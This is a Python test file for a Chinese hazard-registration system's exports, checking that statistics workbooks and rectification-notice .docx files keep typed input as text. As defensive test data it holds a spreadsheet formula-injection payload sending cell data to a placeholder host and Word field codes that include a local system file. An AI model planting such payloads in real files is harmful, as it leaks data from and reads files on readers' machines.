"""Downloads never carry a formula, a field or a header typed by someone else (security round three).

A name typed into a 隐患登记 form — by an inspector, or by the enterprise itself in 隐患自查自报 —
reaches the statistics workbooks the bureau's leaders download (原国家安全监管总局令第16号第十四条的
季度统计表, 执法监管统计表). Excel and WPS run a cell stored as a formula (``=HYPERLINK(…)`` sends the
reader's click, with the sheet's data, to another site; ``=cmd|…`` asks to start a program), so every
text cell must be stored as text. The enterprise registry's export has its own guard
(tests/test_security_spreadsheet.py); a 文书's .docx is text in runs, never a field or a link.
On a real SQLite file and a real PostgreSQL database, with the real hazard process.
"""
from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.ui_support import REGISTER_MAJOR, client_login, make_world, open_task, start_hazard

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看整改通知")'


@pytest.fixture(scope="module")
def world(module_database_url, tmp_path_factory):
    w = make_world(tmp_path_factory.mktemp("exports"),
                   None if module_database_url.startswith("sqlite") else module_database_url)
    engine = w.engine
    case = start_hazard(engine, title="储罐区隐患")
    engine.complete(open_task(engine, case.id, "register").id, "zhang",
                    {**REGISTER_MAJOR, "enterprise_name": HYPERLINK, "credit_code": ""})
    yield w
    engine.dispose()


def test_hazard_statistics_workbook_keeps_names_typed_as_formulas_as_text_order16_art14(world):
    client = client_login(world.app, "zhao")
    response = client.get("/leadership/statistics/hazards.xlsx?year=2026&quarter=4")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    # the name as the form stored it: an enterprise name's ASCII brackets are full-width (fields.unit_name, ede141c)
    typed = [c for row in book["按企业"].iter_rows(min_row=4) for c in row if str(c.value or "").startswith("=HYPERLINK")]
    assert [c.value for c in typed] == ['=HYPERLINK（"http://example.invalid/?"&A1,"点击查看整改通知"）']
    assert typed[0].data_type == "s", typed[0].data_type
    for name in book.sheetnames:
        assert all(c.data_type != "f" for row in book[name].iter_rows() for c in row)
    with zipfile.ZipFile(io.BytesIO(response.data)) as package:  # no <f> element anywhere in the file
        assert not any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in package.namelist())


def test_statistics_download_has_a_safe_chinese_file_name(world):
    client = client_login(world.app, "zhao")
    response = client.get("/leadership/statistics/hazards.xlsx?year=2026&quarter=4")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=UTF-8''")
    assert all(ch not in disposition for ch in '"\r\n') and disposition.isascii()


FIELD_CODE = '{ HYPERLINK "http://example.invalid/" } { INCLUDETEXT "C:\\\\Windows\\\\win.ini" } ' + HYPERLINK


def test_a_documents_docx_carries_typed_text_as_text_never_a_field_or_a_link(world):
    """整改通知书 (hazard.notice, 16号令第十四条) with the enterprise's name, the requirements and the
    responsible person typed as field codes and links: the .docx holds them as text in runs; its
    only field is the footer's page number (GB/T 9704 页码), and it links nowhere."""
    from workflows.documents.docx import render_docx
    data = {"enterprise_name": FIELD_CODE, "requirements": "http://example.invalid/整改说明 " + FIELD_CODE,
            "responsible_person": "@SUM(1+1)", "rectify_deadline": "2027-02-26", "listed_at": "2026-11-23T09:00:00+08:00"}
    content = render_docx("hazard.notice", data, issuer="东城区应急管理局")
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        xml = {name: package.read(name).decode("utf-8") for name in package.namelist() if name.endswith(".xml")}
        rels = "".join(package.read(n).decode("utf-8") for n in package.namelist() if n.endswith(".rels"))
    everything = "".join(xml.values())
    assert "<w:hyperlink" not in everything and "<w:fldSimple" not in everything
    assert re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", everything) == [" PAGE "]
    assert 'TargetMode="External"' not in rels
    assert "HYPERLINK &quot;http://example.invalid/&quot;" in xml["word/document.xml"] or \
        'HYPERLINK "http://example.invalid/"' in xml["word/document.xml"]  # the typed text itself, as text
